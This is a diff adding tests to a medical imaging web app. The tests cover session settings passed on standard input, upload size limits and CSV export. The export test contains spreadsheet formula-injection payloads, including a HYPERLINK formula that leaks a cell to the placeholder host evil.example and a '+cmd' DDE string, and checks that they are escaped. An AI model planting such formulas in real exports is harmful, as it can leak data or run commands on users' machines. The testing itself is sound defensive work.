@@ -193,6 +193,47 @@ def test_upload_batch_reads_volumes_and_refuses_mixtures(tmp_path, axial_case):
         uploads.read_upload_batch(empty)
 
 
+def test_session_settings_come_on_standard_input_and_set_the_web_reading_rules(tmp_path, axial_case):
+    """What a session process does first (session_setup): settings from stdin (a key may begin with "-"),
+    uploads read as self-contained files under the per-image and per-session decoding limits."""
+    import argparse
+    import io
+    import json
+
+    from TACEResponseLib.frontend.web import session_setup
+    from TACEResponseLib.imaging import image_headers
+    from TACEResponseLib.imaging.volume_io import write_volume
+
+    volume = axial_case.phases["arterial"]  # 2.25 MB decoded
+    limits = uploads.UploadLimits(max_image_bytes=3 * 2**20, max_decoded_bytes=5 * 2**20)
+    folder = tmp_path / "session"
+    argv = ["session.py", "--port", "0", session_setup.SETTINGS_FLAG]
+    saved = image_headers._DEFAULT
+    try:
+        session_setup.prepare_session_process(argv, io.StringIO(session_setup.settings_line(folder, "-key", limits)))
+        parser = argparse.ArgumentParser()
+        for name in ("--port", "--session-dir", "--authKey", "--upload-limits"):
+            parser.add_argument(name)
+        args = parser.parse_args(argv[1:])
+        assert (args.session_dir, args.authKey) == (str(folder), "-key")
+        assert json.loads(args.upload_limits)["max_file_bytes"] == limits.max_file_bytes
+        batch = folder / "uploads" / "image" / "b1"
+        batch.mkdir(parents=True)
+        for name in ("a.nrrd", "b.nii.gz", "c.mha"):
+            write_volume(volume, batch / name)
+        with pytest.raises(InputError) as error:
+            uploads.read_upload_batch(batch)  # 3 × 2.25 MB > 5 MB per session
+        assert "allowed per session" in str(error.value) and str(folder) not in str(error.value)
+        (batch / "c.mha").unlink()
+        assert len(uploads.read_upload_batch(batch)) == 2
+        header = write_volume(volume, tmp_path / "d.nhdr")  # its data file beside it, not uploaded
+        (batch / "d.nhdr").write_bytes(header.read_bytes())
+        with pytest.raises(InputError, match="d.nhdr: a detached header"):
+            uploads.read_upload_batch(batch)
+    finally:
+        image_headers.set_default_rules(saved)
+
+
 # --- what the page shows ----------------------------------------------------------------------------
 def test_result_page_and_csv_download(tmp_path):
     from TACEResponseLib.frontend.web.results import download_file, result_page
@@ -217,6 +258,29 @@ def test_result_page_and_csv_download(tmp_path):
         rows = list(csv.DictReader(handle))
     assert [r["predicted"] for r in rows] == ["PR", "PD"] and rows[1]["tumour"] == "Tumour #2"
     assert download_file("json", result, tmp_path).read_text() == (tmp_path / "result.json").read_text()
+
+
+def test_csv_download_neutralises_cells_a_spreadsheet_would_run(tmp_path):
+    from TACEResponseLib.core.files import spreadsheet_safe
+    from TACEResponseLib.frontend.web.results import download_file
+    from TACEResponseLib.prediction.results import PredictionResult, TumourPrediction
+
+    classes = ["CR", "PR", "SD", "PD"]
+    # a case named after an uploaded file, a segment named in an uploaded .seg.nrrd
+    tumour = TumourPrediction("Segment_1", "@SUM(A1:A9)", classes, [0.1, 0.6, 0.2, 0.1], "PR", 0.7, [], [],
+                              volume_ml=21.4)
+    result = PredictionResult('=HYPERLINK("http://evil.example/?"&A1,"open")', "demo", "0" * 64, True, "SYNTHETIC",
+                              "cpu", [tumour])
+    result.save_json(tmp_path / "result.json")
+    with open(download_file("csv", result, tmp_path), newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert cells, "empty CSV"
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
+                 or (cell.startswith("-") and spreadsheet_safe(cell) != cell)]
+    assert not dangerous, dangerous
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
+    assert [spreadsheet_safe(v) for v in ("-1.5", -2, "+cmd|' /C calc'!A0", "-x", "text")] == \
+        ["-1.5", -2, "'+cmd|' /C calc'!A0", "'-x", "text"]
 
 
 def test_result_page_shows_the_patient_and_greys_tumours_not_assessed():
